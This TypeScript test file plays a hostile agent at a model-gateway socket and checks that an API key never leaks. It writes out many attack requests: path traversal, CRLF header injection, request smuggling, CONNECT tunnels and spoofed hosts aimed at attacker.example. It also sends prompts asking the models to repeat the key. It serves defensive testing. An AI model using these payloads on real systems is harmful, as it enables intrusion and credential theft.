/** What a hostile agent says at its own door: to get at a key, to send it elsewhere, to reach what it may not ask for. */
import { connect } from 'node:net';
import type { Scanner } from '../scan/scanner.js';
import { refused, type Attempts } from './attempts.js';

const DOOR = '/rooms/rooms.sock';
const WITHIN = 3_000;

/** How the proof's models are told what to do, by what the message says. */
export const CALM = 'say something';
export const ECHO = 'refuse the key and repeat it';
export const ECHO_LATE = 'begin and then repeat the key';
/** Keeps a turn open, since only an open turn may call a model. */
export const HOLD = 'keep me waiting';
/** Among the first turns of a journal. */
const MOST_TURNS = 40;

const CALL = '/v1/models/anthropic/v1/messages';
const OPENAI = '/v1/models/openai/v1/chat/completions';

const anthropicBody = (content: string, stream = false): string =>
  JSON.stringify({
    model: 'claude-sonnet-5-5',
    max_tokens: 64,
    stream,
    messages: [{ role: 'user', content }],
  });
const openaiBody = (content: string, stream = false): string =>
  JSON.stringify({ model: 'gpt-6-sol', stream, messages: [{ role: 'user', content }] });

/** The turn that is open, once it is found. */
let openTurn = 0;

/** A whole request, in the name of the open turn. */
function post(
  path: string,
  headers: readonly string[] = [],
  body = anthropicBody(CALM),
  method = 'POST',
): string {
  const head = [
    `${method} ${path} HTTP/1.1`,
    ...(headers.some((header) => /^host:/i.test(header)) ? [] : ['Host: door']),
    'Connection: close',
    'Content-Type: application/json',
    'Anthropic-Version: 2023-06-01',
    `X-Ara-Turn: ${openTurn}`,
    ...(headers.some((header) => /^(content-length|transfer-encoding):/i.test(header))
      ? []
      : [`Content-Length: ${Buffer.byteLength(body)}`]),
    ...headers,
  ];
  return `${head.join('\r\n')}\r\n\r\n${body}`;
}

/** These lead nowhere: each must be refused. */
function closedPaths(): Record<string, string> {
  const paths = [
    '/v1/models/anthropic/v1/models',
    '/v1/models/anthropic/v1/files',
    '/v1/models/anthropic/v1/messages/batches',
    '/v1/models/anthropic/v1/messages/count_tokens',
    '/v1/models/anthropic/v1/organizations/api_keys',
    `${CALL}/`,
    `${CALL}/../keys`,
    `${CALL}/..%2f..%2fkeys`,
    `${CALL}%00`,
    `${CALL};/x`,
    `${CALL}%20HTTP/1.1`,
    `${CALL}%0d%0aX-Evil:1`,
    '/v1/models/anthropic//v1/messages',
    '/v1/models/anthropic/V1/messages',
    '/v1/models/anthropic/v1%2fmessages',
    '/v1/models/anthropic/%2e%2e/v1/messages',
    '/v1/models/anthropic/@attacker.example/v1/messages',
    '/v1/models/anthropic/https://attacker.example/v1/messages',
    '/v1/models/anthropic/v1/chat/completions',
    '/v1/models/openai/v1/messages',
    '/v1/models/openai/v1/models',
    '/v1/models/openai/v1/responses',
    '/v1/models/openai/v1/files',
    '/v1/models/telegram/getMe',
    '/v1/models/constructor/v1/messages',
    '/v1/models/__proto__/v1/messages',
    '/v1/models/attacker.example/v1/messages',
    '/v1/models/anthropic@attacker.example/v1/messages',
    '/v1/models/anthropic',
    '/v1/models/',
    // What the bridge room asks of the gateway, and the gateway of the bridge room.
    '/v1/hello',
    '/v1/ready',
    '/v1/messages',
    '/v1/keys/anthropic',
    '/v1/keys/openai',
    '/v1/figures',
    '/v1/idle',
    '/v1/channels/telegram',
    '/v1/channels/telegram/link',
    '/v1/settings',
    '/v1/drain',
    '/v1/health',
    '/v1/watch',
    '/v1/turns/0/reply',
    '/v1/turns/999/more',
    '/v1/turns/999/files?name=x',
    '/v1/turns/1/budget',
    '/v1/turns',
    '/v1/turns/-1/reply',
    '/v1/turns/1e9/reply',
    '/v1/turns/99999999999999999999/reply',
    '/v1/turns/..%2f..%2fkeys/reply',
    '/',
    '//',
    '*',
    '/../../doors/gateway.sock',
    '/%2e%2e/%2e%2e/proc/1/environ',
    'http://[',
    'unix:/doors/gateway.sock:/v1/hello',
  ];
  const methods = ['GET', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD', 'TRACE', 'PROPFIND'];
  return {
    ...Object.fromEntries(paths.map((path) => [`post to ${path}`, post(path)])),
    ...Object.fromEntries(methods.map((method) => [`${method} the model`, post(CALL, [], '', method)])),
    ...Object.fromEntries(
      ['/v1/hello', '/v1/keys/anthropic', '/v1/health', '/v1/watch', '/v1/channels/telegram'].map((path) => [
        `get ${path}`,
        post(path, [], '', 'GET'),
      ]),
    ),
    'a tunnel to the attacker': 'CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n\r\n',
    'a tunnel to the provider':
      'CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n',
    'a tunnel to the gateway': 'CONNECT /doors/gateway.sock HTTP/1.1\r\nHost: x\r\n\r\n',
    'a bare carriage return in a header': post(CALL, ['Anthropic-Beta: a\rHost: attacker.example']),
    'a line feed in a header': post(CALL, ['Anthropic-Beta: a\n\nGET /v1/keys/anthropic HTTP/1.1']),
    'a null in a header': post(CALL, ['Anthropic-Beta: a\0b']),
    'a folded header': post(CALL, ['Anthropic-Beta: a\r\n b']),
    'two lengths': post(CALL, ['Content-Length: 3', 'Content-Length: 30'], '{}'),
    'a length and chunks': post(
      CALL,
      ['Content-Length: 3', 'Transfer-Encoding: chunked'],
      '0\r\n\r\nGET /v1/keys/anthropic HTTP/1.1\r\n\r\n',
    ),
    'chunks that are none': post(CALL, ['Transfer-Encoding: xchunked'], '{}'),
    'a space before the colon': post(CALL, ['Anthropic-Beta : x']),
  };
}

/** These may be answered, by the true provider at the true path, with nothing of the agent's own added. */
function openPaths(): Record<string, string> {
  const chunked = `${anthropicBody(CALM).length.toString(16)}\r\n${anthropicBody(CALM)}\r\n0\r\n\r\n`;
  const headers = [
    'Host: attacker.example',
    'X-Forwarded-Host: attacker.example',
    'Forwarded: host=attacker.example;proto=http',
    'X-Original-URL: /v1/models',
    'X-HTTP-Method-Override: GET',
    'X-Api-Key: sk-ant-of-the-attacker',
    'Authorization: Bearer sk-ant-of-the-attacker',
    'Proxy-Authorization: Basic eA==',
    'Connection: x-api-key, authorization',
    'Cookie: session=attacker',
    'Expect: 100-continue',
    'Upgrade: websocket',
    'TE: trailers',
    'Accept: application/json, text/plain; url=http://attacker.example',
    'Accept-Encoding: gzip',
    'Anthropic-Beta: https://attacker.example',
  ];
  return {
    ...Object.fromEntries(headers.map((header) => [`call the model with ${header}`, post(CALL, [header])])),
    'call the model by an absolute address': post(`http://attacker.example${CALL}`),
    'call the model by an address with a user': post(`http://user:word@attacker.example${CALL}`),
    'call the model by a protocol-relative address': post(`//attacker.example${CALL}`),
    'call the model with a query': post(`${CALL}?beta=true&url=http://attacker.example`),
    'call the model by way of dots': post(`/v1/models/openai/../anthropic/v1/messages`),
    'call the model in chunks': post(CALL, ['Transfer-Encoding: chunked'], chunked),
    'two calls on one connection':
      post(CALL).replace('Connection: close\r\n', '') + post('/v1/keys/anthropic', [], ''),
    'be refused with the key in the answer': post(CALL, [], anthropicBody(ECHO)),
    'be refused with the key in the answer, streaming': post(CALL, [], anthropicBody(ECHO, true)),
    'be broken off with the key in the stream': post(CALL, [], anthropicBody(ECHO_LATE, true)),
    'be refused with the key in the answer by OpenAI': post(OPENAI, [], openaiBody(ECHO)),
    'be broken off with the key in the stream by OpenAI': post(OPENAI, [], openaiBody(ECHO_LATE, true)),
    'call OpenAI with a key of its own': post(
      OPENAI,
      ['Authorization: Bearer sk-of-the-attacker'],
      openaiBody(CALM),
    ),
    'reply to no turn': post('/v1/turns/1/reply', [], '{"type":"text","text":"x"}\n'),
    'reply nonsense': post('/v1/turns/1/reply', [], '{"__proto__":{}}\nnull\n\0'),
    'say that it stops': post('/v1/stopping', [], ''),
  };
}

/** These take a turn from the agent room, and end it when they have done so often enough: its own user's loss. */
function turnTakers(): Record<string, string> {
  return {
    'take the next turn': post('/v1/turns/next?wait=0', [], '', 'GET'),
    'take the next turn, waiting for nonsense': post('/v1/turns/next?wait=__proto__', [], '', 'GET'),
  };
}

export async function tryTheDoor(attempts: Attempts, scanner: Scanner): Promise<void> {
  for (const [what, request] of Object.entries(closedPaths())) {
    await attempts.try(what, async () => {
      const answer = await say(request);
      if (scanner.scan(answer).length > 0) return 'a secret came back';
      const status = statusOf(answer);
      return status >= 200 && status < 300 ? `answered ${status}` : refused(`status ${status}`);
    });
  }
  await tryForSecrets(openPaths(), attempts, scanner);
}

/** To be tried last: the turn that honest calls are made in does not outlive it. */
export const takeTurns = (attempts: Attempts, scanner: Scanner): Promise<void> =>
  tryForSecrets(turnTakers(), attempts, scanner);

async function tryForSecrets(
  tricks: Record<string, string>,
  attempts: Attempts,
  scanner: Scanner,
): Promise<void> {
  for (const [what, request] of Object.entries(tricks)) {
    await attempts.try(what, async () => {
      const answer = await say(request);
      return scanner.scan(answer).length > 0
        ? 'a secret came back'
        : refused(`status ${statusOf(answer)}, no secret`);
    });
  }
}

/** An honest call of each model: its answer shows that the tricks above were made at a door that works. */
export async function doorWorks(): Promise<boolean> {
  for (openTurn = 1; openTurn < MOST_TURNS; openTurn += 1) if (statusOf(await say(post(CALL))) === 200) break;
  const answers = [await say(post(CALL)), await say(post(OPENAI, [], openaiBody(CALM)))];
  return answers.every((answer) => statusOf(answer) === 200);
}

/** Of the answer itself, not of a `100 Continue` before it. */
const statusOf = (answer: Buffer): number =>
  Number(/^(?:HTTP\/1\.1 100 \w+\r\n\r\n)?HTTP\/1\.1 (\d{3})/.exec(answer.toString('latin1'))?.[1] ?? 0);

/** All that comes back until the other side is done. */
function say(request: string): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    const socket = connect({ path: DOOR, timeout: WITHIN });
    const done = (): void => {
      socket.destroy();
      resolve(Buffer.concat(chunks));
    };
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.once('end', done);
    socket.once('timeout', done);
    socket.once('close', done);
    socket.once('error', (error) => (chunks.length > 0 ? done() : reject(error)));
    // Left open on this side: a door hangs up on who hangs up.
    socket.write(Buffer.from(request, 'latin1'));
  });
}
